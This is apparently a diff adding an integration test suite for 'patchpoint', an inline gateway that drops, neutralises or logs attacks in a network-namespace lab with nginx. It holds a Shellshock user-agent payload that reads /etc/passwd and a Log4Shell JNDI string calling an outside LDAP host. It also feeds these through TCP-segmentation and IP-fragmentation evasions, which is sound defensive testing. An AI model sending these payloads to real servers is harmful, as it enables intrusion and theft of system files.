@@ -1,0 +1,210 @@
+/**
+ * The inline gateway in network namespaces (topology in lab.ts): real nginx, real curl, scapy.
+ * Policy: port 80 drop, 81 fix, 82 log; 8080 unprotected (kernel bridge).
+ */
+import {describe, it, expect, beforeAll, afterAll} from 'vitest'
+import {createHash} from 'node:crypto'
+import fs from 'node:fs'
+import path from 'node:path'
+import {fileURLToPath} from 'node:url'
+import type {ChildProcess} from 'node:child_process'
+import {CLIENT_IP, GatewayLab, SERVER_IP, labSkipReason, waitFor} from './lab.js'
+
+const skip = labSkipReason()
+if (skip) console.warn(`skipping the inline gateway suite: ${skip}`)
+const repo = fileURLToPath(new URL('../../', import.meta.url))
+const bin = path.join(repo, 'bin/run.js')
+const evade = fileURLToPath(new URL('./evade.py', import.meta.url))
+const SHELLSHOCK_UA = '() { :; }; /bin/cat /etc/passwd'
+const LOG4SHELL_UA = '${jndi:ldap://203.0.113.9:1389/a}'
+const EVASIONS = ['segments', 'fragments', 'overlap', 'conflict'] as const
+
+describe.skipIf(skip !== null)('patchpoint run --iface (inline, namespaces)', () => {
+  let lab: GatewayLab
+  let gw: ChildProcess
+  let out = ''
+  let accessLog = ''
+  let oneMbSha = ''
+  let eventsFile = ''
+  let policy = ''
+
+  const curl = (args: string, timeoutMs = 30_000) => lab.try(lab.client, `curl -sS --max-time ${Math.ceil(timeoutMs / 1000)} ${args}`, timeoutMs + 5000)
+  const access = () => (fs.existsSync(accessLog) ? fs.readFileSync(accessLog, 'utf8') : '')
+  const events = () => (fs.existsSync(eventsFile) ? fs.readFileSync(eventsFile, 'utf8').split('\n') : [])
+
+  beforeAll(async () => {
+    lab = new GatewayLab()
+    lab.create()
+    const ng = lab.startNginx([80, 81, 82, 8080])
+    accessLog = ng.accessLog
+    oneMbSha = createHash('sha256').update(fs.readFileSync(ng.oneMb)).digest('hex')
+    policy = path.join(lab.dir, 'policy.json')
+    fs.writeFileSync(policy, JSON.stringify({services: [
+      {ip: SERVER_IP, port: 80, proto: 'tcp', action: 'drop'},
+      {ip: SERVER_IP, port: 81, proto: 'tcp', action: 'fix'},
+      {ip: SERVER_IP, port: 82, proto: 'tcp', action: 'log'},
+    ]}))
+    eventsFile = path.join(lab.dir, 'events.json')
+    gw = lab.spawn(lab.gw, [process.execPath, bin, 'run', '--iface', 'ga,gb', '--policy', policy, '--events', eventsFile, '--stats-interval', '0'])
+    gw.stdout!.on('data', (d: Buffer) => (out += d.toString()))
+    gw.stderr!.on('data', (d: Buffer) => (out += d.toString()))
+    const ready = await waitFor(() => out.includes('patchpoint: ready') || gw.exitCode !== null, 90_000)
+    if (!ready || gw.exitCode !== null) throw new Error(`gateway did not start: ${out}`)
+    // the bridge learns both ends
+    await waitFor(() => lab.try(lab.client, `ping -c1 -W1 ${SERVER_IP}`).code === 0, 10_000, 200)
+  })
+
+  afterAll(() => {
+    lab?.destroy()
+  })
+
+  it('(a) a 1 MB download on a protected port arrives byte for byte', () => {
+    const r = curl(`-o - http://${SERVER_IP}:80/1mb.bin | sha256sum`)
+    expect(r.code).toBe(0)
+    expect(r.out.split(' ')[0]).toBe(oneMbSha)
+  })
+
+  it('(b) an unprotected port passes through the kernel bridge while the engine runs', () => {
+    const r = curl(`-o - http://${SERVER_IP}:8080/1mb.bin | sha256sum`)
+    expect(r.out.split(' ')[0]).toBe(oneMbSha)
+    expect(gw.exitCode).toBeNull()
+  })
+
+  it('(c) drop: Shellshock and Log4Shell get a reset / empty reply and never reach nginx', () => {
+    for (const [marker, ua] of [['pp-drop-ss', SHELLSHOCK_UA], ['pp-drop-l4', LOG4SHELL_UA]]) {
+      const r = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${ua}' http://${SERVER_IP}:80/${marker}`, 10_000)
+      expect(r.code, r.out).not.toBe(0)
+      expect(access()).not.toContain(marker)
+    }
+    const ok = curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:80/pp-after-drop`)
+    expect(ok.out).toBe('200')
+  })
+
+  it('(c) fix: the request arrives neutralised and the session lives (200)', async () => {
+    const r = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${SHELLSHOCK_UA}' http://${SERVER_IP}:81/pp-fix-ss`)
+    expect(r.out).toBe('200')
+    await waitFor(() => access().includes('pp-fix-ss'), 2000)
+    const line = access().split('\n').find((l) => l.includes('pp-fix-ss'))!
+    expect(line).toBeDefined()
+    expect(line).not.toContain('() {')
+    const r2 = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${LOG4SHELL_UA}' http://${SERVER_IP}:81/pp-fix-l4`)
+    expect(r2.out).toBe('200')
+    await waitFor(() => access().includes('pp-fix-l4'), 2000)
+    const line2 = access().split('\n').find((l) => l.includes('pp-fix-l4'))!
+    expect(line2).not.toContain('${jndi:')
+  })
+
+  it('(c) log: the request arrives unchanged and an alert is written', async () => {
+    const r = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${SHELLSHOCK_UA}' http://${SERVER_IP}:82/pp-log-ss`)
+    expect(r.out).toBe('200')
+    await waitFor(() => access().includes('pp-log-ss'), 2000)
+    expect(access().split('\n').find((l) => l.includes('pp-log-ss'))).toContain('() { :; }')
+    await waitFor(() => out.includes('PP-SHELLSHOCK') && out.includes(':82'), 3000)
+    expect(out).toMatch(/log PP-SHELLSHOCK .*:82/)
+  })
+
+  it('(d) the exploit in tiny, overlapping or conflicting TCP segments and in IP fragments is stopped, not one byte leaks', async () => {
+    // the client kernel must not reset scapy's connections
+    lab.sh(lab.client, "nft add table inet ev; nft add chain inet ev o '{ type filter hook output priority 0; }'; nft add rule inet ev o tcp flags rst drop")
+    // every client->server TCP payload byte on the drop port, seen by the server's own interface
+    const pcap = path.join(lab.dir, 'server-80.pcap')
+    const td = lab.spawn(lab.server, ['tcpdump', '-U', '-nn', '-i', 's0', '-w', pcap, `tcp dst port 80 and src host ${CLIENT_IP}`])
+    let tdErr = ''
+    td.stderr!.on('data', (d: Buffer) => (tdErr += d.toString()))
+    await waitFor(() => tdErr.includes('listening on'), 10_000)
+    const blockedBefore = events().filter((l) => l.includes('"gateway.flow_blocked"')).length
+    const ports = new Set<number>()
+    for (const mode of EVASIONS) {
+      const marker = `pp-evade-${mode}`
+      const req = path.join(lab.dir, `${mode}.txt`)
+      fs.writeFileSync(req, `GET /${marker} HTTP/1.1\r\nHost: ${SERVER_IP}\r\nUser-Agent: ${SHELLSHOCK_UA}\r\n\r\n`)
+      const r = lab.try(lab.client, `/usr/bin/python3 ${evade} ${SERVER_IP} 80 ${mode} ${req}`, 30_000)
+      expect(r.out).not.toContain('NOSYNACK')
+      expect(r.out, r.out).toMatch(/^(RST|NONE)/)
+      const sport = /SPORT (\d+)/.exec(r.out)
+      if (sport) ports.add(Number(sport[1]))
+      expect(access(), `${mode}: ${r.out}`).not.toContain(marker)
+    }
+    await new Promise((res) => setTimeout(res, 300))
+    td.kill('SIGINT')
+    await waitFor(() => td.exitCode !== null, 5000)
+    // one block per evasion, and the server's interface saw the handshakes but no payload byte
+    expect(events().filter((l) => l.includes('"gateway.flow_blocked"')).length - blockedBefore).toBe(EVASIONS.length)
+    const seen = lab.sh(lab.server, `tcpdump -nn -r ${pcap} 2>/dev/null`)
+    expect(ports.size).toBe(EVASIONS.length)
+    for (const p of ports) expect(seen, `handshake of ${p}`).toContain(`${CLIENT_IP}.${p} > `)
+    const withData = seen.split('\n').filter((l) => / length [1-9]/.test(l))
+    expect(withData, withData.join('\n')).toEqual([])
+    // controls: the same evasions on the log port do arrive, so each one works against nginx
+    for (const mode of EVASIONS) {
+      const req = path.join(lab.dir, `control-${mode}.txt`)
+      fs.writeFileSync(req, `GET /pp-evade-control-${mode} HTTP/1.1\r\nHost: ${SERVER_IP}\r\nUser-Agent: ${SHELLSHOCK_UA}\r\n\r\n`)
+      lab.try(lab.client, `/usr/bin/python3 ${evade} ${SERVER_IP} 82 ${mode} ${req}`, 30_000)
+    }
+    await waitFor(() => EVASIONS.every((m) => access().includes(`pp-evade-control-${m} `)), 3000)
+    for (const mode of EVASIONS) expect(access().split('\n').find((l) => l.includes(`pp-evade-control-${mode} `)), mode).toContain('() { :; }')
+    lab.sh(lab.client, 'nft delete table inet ev')
+  }, 120_000)
+
+  it('(e) kill -9: unprotected traffic never stops, protected traffic resumes within ~1 s', async () => {
+    // a slow unprotected transfer spanning the kill
+    const slow = lab.spawn(lab.client, ['sh', '-c', `curl -sS --limit-rate 1M -o - http://${SERVER_IP}:8080/4mb.bin | sha256sum`])
+    let slowOut = ''
+    slow.stdout!.on('data', (d: Buffer) => (slowOut += d.toString()))
+    await new Promise((r) => setTimeout(r, 1000))
+    const before = fs.readFileSync(path.join(lab.dir, 'www/4mb.bin'))
+    process.kill(gw.pid!, 'SIGKILL')
+    const killedAt = Date.now()
+    let resumedMs = -1
+    while (Date.now() - killedAt < 5000) {
+      const r = curl(`-o /dev/null -w '%{http_code}' --connect-timeout 1 http://${SERVER_IP}:80/pp-after-kill`, 2000)
+      if (r.out === '200') {
+        resumedMs = Date.now() - killedAt
+        break
+      }
+    }
+    console.log(`fail-open: protected traffic resumed ${resumedMs} ms after kill -9`)
+    expect(resumedMs).toBeGreaterThanOrEqual(0)
+    expect(resumedMs).toBeLessThan(2500)
+    await waitFor(() => slow.exitCode !== null, 15_000)
+    expect(slowOut.split(' ')[0]).toBe(createHash('sha256').update(before).digest('hex'))
+  })
+
+  it('(f) --fail-closed: after kill -9 protected traffic stays blocked, unprotected traffic flows', async () => {
+    // (e) left the bridge behind, as a killed gateway does: reuse it
+    const bridge = /\(bridge (\S+)\)/.exec(out)?.[1]
+    expect(bridge).toBeDefined()
+    let out2 = ''
+    const gw2 = lab.spawn(lab.gw, [process.execPath, bin, 'run', '--iface', 'ga,gb', '--bridge', bridge!, '--fail-closed', '--policy', policy,
+      '--events', path.join(lab.dir, 'events-fc.json'), '--stats-interval', '0'])
+    gw2.stdout!.on('data', (d: Buffer) => (out2 += d.toString()))
+    gw2.stderr!.on('data', (d: Buffer) => (out2 += d.toString()))
+    const ready = await waitFor(() => out2.includes('patchpoint: ready') || gw2.exitCode !== null, 90_000)
+    expect(ready && gw2.exitCode === null, out2).toBe(true)
+    expect(out2).toContain('fail-closed')
+    expect(curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:80/pp-fc-before`).out).toBe('200')
+    const slow = lab.spawn(lab.client, ['sh', '-c', `curl -sS --limit-rate 1M -o - http://${SERVER_IP}:8080/4mb.bin | sha256sum`])
+    let slowOut = ''
+    slow.stdout!.on('data', (d: Buffer) => (slowOut += d.toString()))
+    await new Promise((r) => setTimeout(r, 1000))
+    process.kill(gw2.pid!, 'SIGKILL')
+    await waitFor(() => gw2.exitCode !== null || gw2.signalCode !== null, 5000)
+    // protected: nothing gets through for the next 3 s (well past the fail-open figure)
+    const killedAt = Date.now()
+    let tries = 0
+    while (Date.now() - killedAt < 3000) {
+      const r = curl(`-o /dev/null -w '%{http_code}' --connect-timeout 1 http://${SERVER_IP}:80/pp-fc-after-${tries}`, 2000)
+      expect(r.out).not.toBe('200')
+      tries++
+    }
+    expect(tries).toBeGreaterThan(0)
+    expect(access()).not.toContain('pp-fc-after')
+    // unprotected: the transfer spanning the kill completes intact, new sessions work
+    await waitFor(() => slow.exitCode !== null, 15_000)
+    expect(slowOut.split(' ')[0]).toBe(createHash('sha256').update(fs.readFileSync(path.join(lab.dir, 'www/4mb.bin'))).digest('hex'))
+    expect(curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:8080/pp-fc-unprotected`).out).toBe('200')
+    // the operator's way out: the table is ours and named
+    lab.sh(lab.gw, 'nft delete table bridge patchpoint')
+    expect(curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:80/pp-fc-released`).out).toBe('200')
+  }, 150_000)
+})
